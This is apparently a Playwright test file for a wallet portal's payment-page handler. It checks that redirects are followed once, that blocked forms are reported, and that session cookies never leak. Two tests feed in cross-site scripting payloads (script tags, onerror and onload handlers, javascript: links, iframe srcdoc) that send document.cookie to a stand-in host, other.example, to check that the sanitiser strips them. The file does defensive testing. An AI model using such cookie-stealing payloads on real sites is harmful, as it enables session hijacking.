import type { Page, Request } from '@playwright/test'
import { contrast, type Rgb } from '../../../src/styles/oklch.ts'
import { expect, test } from '../../support/browser/browser.ts'
import { type PortalServer, startPortalServer } from '../../support/browser/portal-server.ts'
import { openSignIn } from '../../support/browser/screens.ts'
import { serveSourceModules } from '../../support/browser/source-modules.ts'

const token = 'kept-to-ourselves'
const pay = 'https://pay.example'
const other = 'https://other.example'

let server: PortalServer
test.beforeAll(async () => {
  server = await startPortalServer({ env: { PAYMENT_ORIGINS: pay } })
})
test.afterAll(() => server.close())

declare global {
  interface Window {
    /** Whether everything that ran in the portal was ended. */
    left?: boolean
    /** Ends the time that the browser has to open a page. */
    expire?: () => void
  }
}

/**
 * Opens the portal's own page under its own headers, by default with a session cookie, and records its requests to
 * other origins. A signed-out tab that notices the cookie leaves the sign-in form.
 */
const openPortal = async (page: Page, { answersSession = false, hasCookie = true } = {}) => {
  const elsewhere: Request[] = []
  page.on('request', request => {
    if (!request.url().startsWith(server.origin())) elsewhere.push(request)
  })
  for (const host of [pay, other])
    await page.route(`${host}/**`, route =>
      route.fulfill({ contentType: 'text/html', body: '<title>Elsewhere</title><h1>Elsewhere</h1>' }),
    )
  // A tab without a session asks about a cookie that appears (S4). Here that request stays unanswered.
  if (!answersSession) await page.route('**/authenticate/session', () => {})
  await serveSourceModules(page, server.origin())
  await openSignIn(page, server.origin())
  if (hasCookie)
    await page
      .context()
      .addCookies([{ name: 'sessionToken', value: token, url: server.origin(), sameSite: 'Strict' }])

  return {
    elsewhere,
    /** Gives a page to the port. 'moved': the browser has left the portal. */
    show: (html: string) =>
      page
        .evaluate(
          async ({ module, html }) => {
            const { createBrowserPaymentPage } = await import(module)
            const { show } = createBrowserPaymentPage(window, {
              leave: () => {
                window.left = true
              },
              words: { back: 'Back to your wallet', notOpened: 'Not opened.' },
              time: {
                setTimeout: (callback: () => void) => {
                  window.expire = callback
                },
                clearTimeout: () => {},
              },
            })
            return show(html).then(
              (isShown: boolean) => (isShown ? 'shown' : 'not opened'),
              (error: unknown) => String(error),
            )
          },
          { module: '/src/ports/page/payment-page.ts', html },
        )
        .catch(() => 'moved'),
    left: () => page.evaluate(() => window.left ?? false),
  }
}

/** The one request that left the portal, and that nothing of the session went along. */
const onlyRequest = async (elsewhere: readonly Request[]) => {
  expect(elsewhere.map(request => request.isNavigationRequest())).toEqual([true])
  const [request] = elsewhere
  const headers = (await request?.allHeaders()) ?? {}
  const told = { method: request?.method(), url: request?.url(), body: request?.postData() }
  expect(JSON.stringify({ ...told, headers })).not.toContain(token)
  expect(Object.keys(headers)).not.toContain('referer')
  return told
}

const pageOf = (body: string, head = '') =>
  `<!doctype html><html><head><title>Payment</title>${head}</head><body>${body}</body></html>`
const fields = '<input type="hidden" name="PAY_REQUEST_ID" value="7"><input name="CHECKSUM" value="a b">'
const posted = { method: 'POST', url: `${pay}/process`, body: 'PAY_REQUEST_ID=7&CHECKSUM=a+b' }

test.describe('a page with one way on is followed, once', () => {
  for (const { name, html, expected } of [
    {
      name: 'a form that sends itself when it has loaded',
      html: pageOf(`<form action="${pay}/process" method="post" name="f">${fields}</form>`).replace(
        '<body>',
        '<body onload="document.f.submit()">',
      ),
      expected: posted,
    },
    {
      name: 'a form with a button',
      html: pageOf(
        `<p>Go on</p><form action="${pay}/process" method="post" target="_blank">${fields}<button>Pay</button></form>`,
      ),
      expected: posted,
    },
    {
      name: 'a form whose fields are called like what a form can do',
      html: pageOf(
        `<form action="${pay}/process" method="post"><input name="submit" value="1"><input name="action" value="${other}/"></form>`,
      ),
      expected: {
        method: 'POST',
        url: `${pay}/process`,
        body: `submit=1&action=${encodeURIComponent(`${other}/`)}`,
      },
    },
    {
      name: 'a form before any other way',
      html: pageOf(
        `<form action=" ${pay}/process " method="post">${fields}</form><script>location.href='${other}/'</script>`,
        `<meta http-equiv="refresh" content="0;url=${other}/">`,
      ),
      expected: posted,
    },
    {
      name: 'a refresh',
      html: pageOf('<p>One moment</p>', `<meta http-equiv="Refresh" content="0; url=${pay}/go?id=7">`),
      expected: { method: 'GET', url: `${pay}/go?id=7`, body: null },
    },
    {
      name: 'an address in a script',
      html: pageOf(`<script>window.location.href = "${pay}/go?id=7";</script>`),
      expected: { method: 'GET', url: `${pay}/go?id=7`, body: null },
    },
  ])
    test(name, async ({ page }) => {
      const { show, elsewhere } = await openPortal(page)
      await show(html)
      await expect(page.getByRole('heading', { name: 'Elsewhere' })).toBeVisible()
      expect(await onlyRequest(elsewhere)).toEqual(expected)
      expect(page.context().pages()).toHaveLength(1)
    })
})

/** Reads the page at once: a locator would wait for the end of a navigation that was blocked before it began. */
const readPage = (page: Page) =>
  page.evaluate(() => ({
    heading: document.querySelector('h1')?.textContent,
    notices: [...document.querySelectorAll(':not([hidden]) > [role=alert]')].map(
      ({ firstChild }) => firstChild?.textContent,
    ),
    forms: document.querySelectorAll('form[action]').length,
  }))

/** Presses a button at once, for the same reason. */
const pressAtOnce = (page: Page, label: string) =>
  page.evaluate(
    label => [...document.querySelectorAll('button')].find(one => one.textContent === label)?.click(),
    label,
  )

test.describe('a page that the browser does not open is reported, and the portal stays', () => {
  const form = (action: string) =>
    pageOf(`<form action="${action}" method="post" name="cookie">${fields}<button>Continue</button></form>`)

  test('a form that the security policy blocks', async ({ page, problems }) => {
    problems.expect(/form-action/)
    const { show, left, elsewhere } = await openPortal(page)
    expect(await show(form(`${other}/process`))).toBe('not opened')
    expect(await readPage(page)).toEqual({ heading: 'Sign In', notices: [], forms: 0 })
    expect({ left: await left(), elsewhere }).toEqual({ left: false, elsewhere: [] })
  })

  test('a form whose redirect the security policy blocks', async ({ page, problems }) => {
    problems.expect(/form-action/)
    const { show, left } = await openPortal(page)
    await page.route(`${pay}/process`, route =>
      route.fulfill({ status: 302, headers: { location: `${other}/bank` } }),
    )
    expect(await show(form(`${pay}/process`))).toBe('not opened')
    await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
    expect(await left()).toBe(false)
  })

  for (const { name, html } of [
    { name: 'a form', html: form(`${pay}/process`) },
    { name: 'an address', html: pageOf('', `<meta http-equiv="refresh" content="0; url=${pay}/go">`) },
  ])
    test(`${name} that nothing answers in time`, async ({ page }) => {
      const { show, left } = await openPortal(page)
      await page.route(`${pay}/**`, route => route.fulfill({ status: 204 }))
      const outcome = show(html)
      await page.waitForFunction(() => window.expire)
      await page.evaluate(() => window.expire?.())
      expect(await outcome).toBe('not opened')
      expect(await left()).toBe(false)
    })

  test('one of two forms: the page says so and leads back', async ({ page, problems }) => {
    problems.expect(/form-action/)
    problems.expect(/401 \(Unauthorized\).*authenticate\/session/)
    const { show } = await openPortal(page, { answersSession: true })
    const choice = (action: string, label: string) =>
      `<form action="${action}" method="post"><button>${label}</button></form>`
    const choices = choice(`${pay}/card`, 'Card') + choice(`${other}/bank`, 'Bank')
    expect(await show(pageOf(`<h1>How?</h1>${choices}`))).toBe('shown')
    for (const press of ['first', 'second'])
      await test.step(press, async () => {
        await pressAtOnce(page, 'Bank')
        await expect
          .poll(() => readPage(page))
          .toEqual({ heading: 'How?', notices: ['Not opened.'], forms: 2 })
      })
    await pressAtOnce(page, 'Back to your wallet')
    await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
  })
})

/** The text colour and the background of the notice and of the way back, with the width of the page. */
const readLook = (page: Page) =>
  page.evaluate(() => {
    const backgroundOf = (element: Element | null): string => {
      if (element === null) return 'rgb(255, 255, 255)'
      const { backgroundColor } = getComputedStyle(element)
      return backgroundColor === 'rgba(0, 0, 0, 0)' ? backgroundOf(element.parentElement) : backgroundColor
    }
    const shown = [
      document.querySelector('[role=alert]'),
      [...document.querySelectorAll('button')].find(
        ({ textContent }) => textContent === 'Back to your wallet',
      ),
    ]
    return {
      width: document.documentElement.scrollWidth,
      colours: shown.map(element => element && [getComputedStyle(element).color, backgroundOf(element)]),
    }
  })

const toRgb = (colour: string): Rgb => {
  const [red = 0, green = 0, blue = 0] = (colour.match(/\d+/g) ?? []).map(Number)
  return [red, green, blue]
}

for (const colorScheme of ['light', 'dark'] as const)
  test(`the notice of a grey page is legible in ${colorScheme} mode`, async ({ page, problems }) => {
    problems.expect(/form-action/)
    await page.emulateMedia({ colorScheme })
    await page.setViewportSize({ width: 360, height: 740 })
    const { show } = await openPortal(page)
    const forms = `<form action="${other}/bank"><button>Bank</button></form><form action="${pay}/card"></form>`
    expect(await show(`<!doctype html><body bgcolor="#777777" text="#777777">${forms}`)).toBe('shown')
    await pressAtOnce(page, 'Bank')
    await expect.poll(async () => (await readPage(page)).notices).toEqual(['Not opened.'])
    const { width, colours } = await readLook(page)
    expect(width).toBe(360)
    // WCAG 2.2, 1.4.3
    for (const [text = '', background = ''] of colours.map(pair => pair ?? []))
      expect(contrast(toRgb(text), toRgb(background))).toBeGreaterThanOrEqual(4.5)
  })

test('a page on this machine may be led to, from this machine', async ({ page }) => {
  const { show, elsewhere } = await openPortal(page)
  await show(pageOf(`<form action="${server.origin()}/robots.txt"><button>Continue</button></form>`))
  await expect(page).toHaveURL(`${server.origin()}/robots.txt?`)
  expect(elsewhere).toEqual([])
})

test.describe('a page that leaves a choice, or leads nowhere, stays', () => {
  test('plain text takes the place of the portal, and a button below it leads back there', async ({
    page,
    problems,
  }) => {
    problems.expect(/401 \(Unauthorized\).*authenticate\/session/)
    const { show, left, elsewhere } = await openPortal(page, { answersSession: true })
    expect(await show('We have sent a request to your bank. Approve it there.')).toBe('shown')
    expect(await page.locator('body').innerText()).toBe(
      'We have sent a request to your bank. Approve it there.\nBack to your wallet',
    )
    expect({ left: await left(), elsewhere }).toEqual({ left: true, elsewhere: [] })
    await page.getByRole('button', { name: 'Back to your wallet' }).click()
    await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
  })

  test('keeps its links, and a button below them leads back', async ({ page }) => {
    const { show } = await openPortal(page)
    await show(pageOf(`<p>Approved.</p><a href="${pay}/go">Go on</a>`))
    await expect(page.getByRole('link')).toHaveText(['Go on'])
    await expect(page.getByRole('button')).toHaveText(['Back to your wallet'])
  })

  test('of two forms the consumer chooses one', async ({ page }) => {
    const { show, elsewhere } = await openPortal(page)
    const form = (label: string) =>
      `<form action="${pay}/${label.toLowerCase()}" method="post"><button>${label}</button></form>`
    const script = `<script>function cancel(){location.href='${pay}/cancelled'}</script>`
    expect(await show(pageOf(`<h1>How?</h1>${form('Card')}${form('Bank')}${script}`))).toBe('shown')
    await expect(page).toHaveTitle('Payment')
    await expect(page.getByRole('heading', { name: 'How?' })).toBeVisible()
    expect(await page.evaluate(() => innerWidth)).toBe(page.viewportSize()?.width)
    expect(elsewhere).toEqual([])
    await page.getByRole('button', { name: 'Bank' }).click()
    await expect(page.getByRole('heading', { name: 'Elsewhere' })).toBeVisible()
    expect(await onlyRequest(elsewhere)).toMatchObject({ method: 'POST', url: `${pay}/bank` })
  })

  test('what it has for browsers without scripts is shown', async ({ page }) => {
    const { show } = await openPortal(page)
    await show(
      pageOf(`<noscript><p>Press to go on.</p><a href="${pay}/go" target="_top">Go on</a></noscript>`),
    )
    await expect(page.getByText('Press to go on.')).toBeVisible()
    await page.getByRole('link', { name: 'Go on' }).click()
    await expect(page.getByRole('heading', { name: 'Elsewhere' })).toBeVisible()
  })

  test('the browser’s Back brings the portal back', async ({ page, problems }) => {
    problems.expect(/401 \(Unauthorized\).*authenticate\/session/)
    const { show } = await openPortal(page, { answersSession: true })
    await page.evaluate(() => history.pushState(null, '', '#/dashboard?service=topup'))
    await show('Approve it at your bank.')
    await page.goBack()
    await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
  })
})

test('nothing of a page runs, is fetched, framed or sent by itself, and no policy is offended by it', async ({
  page,
}) => {
  const { show, elsewhere } = await openPortal(page)
  const steal = (how: string) => `${how}='${other}/?c='+document.cookie`
  const outcome = await show(
    pageOf(
      `<h1>Payment</h1>
      <script>new Image().src='${other}/?c='+document.cookie;${steal('location.href')}</script>
      <script src="${other}/steal.js"></script>
      <img src="x" onerror="${steal('location')}"><img srcset="${other}/1.png 2x" alt="">
      <img src="http://other.example/2.png" alt="">
      <svg onload="${steal('location')}"><a href="${other}"><text>in svg</text></a></svg>
      <iframe src="${other}" srcdoc="<script>${steal('parent.location')}</script>"></iframe>
      <object data="${other}/o"></object><embed src="${other}/e"><video src="${other}/v" autoplay></video>
      <a id="script" href="javascript:${steal('location')}" ping="${other}/ping">Go</a>
      <a id="data" href="data:text/html,x">Go</a><a id="plain" href="http://other.example/">Go</a>
      <a id="relative" href="/api/network/express/wallet">Go</a><a id="safe" href="${pay}/x" target="_blank">Go</a>
      <div style="background:url(${other}/bg)" onmouseover="${steal('location')}" autofocus>Text</div>
      <p title='a > b'OnClick="${steal('location')}"/style="color:red" onfocus=go() class=plain>Odd</p>
      <math><mtext>in math</mtext></math><template><img src="${other}/t"></template>
      <table background="http://other.example/b"><tbody><tr><td>Cell</td></tr></tbody></table>`,
      `<base href="${other}/"><link rel="stylesheet" href="${other}/s.css"><style>body{color:red}</style>
      <meta http-equiv="Content-Security-Policy" content="form-action ${other}">
      <meta http-equiv="refresh" content="0;url=javascript:${steal('location')}">`,
    ),
  )
  expect(outcome).toBe('shown')
  await page.getByText('Text').hover()
  await page.locator('#script').click()
  await page.locator('#data').click()
  // The portal's own way back is no part of the page.
  await page.getByRole('complementary').evaluate(wayBack => wayBack.remove())
  expect(
    await page.evaluate(() => ({
      elements: [...new Set([...document.querySelectorAll('*')].map(({ localName }) => localName))].sort(),
      attributes: [...document.querySelectorAll('body *')].flatMap(element =>
        element.getAttributeNames().map(name => `${element.localName} ${name}=${element.getAttribute(name)}`),
      ),
      metas: [...document.querySelectorAll('meta')].map(({ name }) => name),
      url: location.href,
    })),
  ).toEqual({
    elements: [
      'a',
      'body',
      'div',
      'h1',
      'head',
      'html',
      'img',
      'meta',
      'p',
      'table',
      'tbody',
      'td',
      'title',
      'tr',
    ],
    attributes: [
      'img alt=',
      'img alt=',
      'a id=script',
      'a id=data',
      'a id=plain',
      'a id=relative',
      'a id=safe',
      `a href=${pay}/x`,
      'div autofocus=',
      'p title=a > b',
      'p class=plain',
    ],
    metas: ['viewport'],
    url: expect.stringContaining(server.origin()),
  })
  expect(elsewhere).toEqual([])
})

test('a page that may be neither shown nor followed is refused, and the portal stays', async ({ page }) => {
  const { show, left, elsewhere } = await openPortal(page, { hasCookie: false })
  for (const [name, html] of [
    ['a form over plain http', pageOf('<form action="http://pay.example/"><button>Pay</button></form>')],
    [
      'a form of its own address',
      pageOf('<form action="/process" method="post"><button>Pay</button></form>'),
    ],
    ['a form without an address', pageOf('<form method="post"><button>Pay</button></form>')],
    ['nothing to see', pageOf('<script>start()</script>')],
    [
      'only scripts that put an address together',
      pageOf(`<script>location='${other}/?'+document.cookie</script>`),
    ],
    [
      'fields that stand in the way of its cleaning',
      pageOf(`<form action="${pay}/"><input name="getAttribute"><input name="getAttributeNames"></form>`),
    ],
  ] as const)
    await test.step(name, async () => {
      expect(await show(html)).toMatch(/Error/)
      await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
      expect({ left: await left(), elsewhere }).toEqual({ left: false, elsewhere: [] })
    })
})
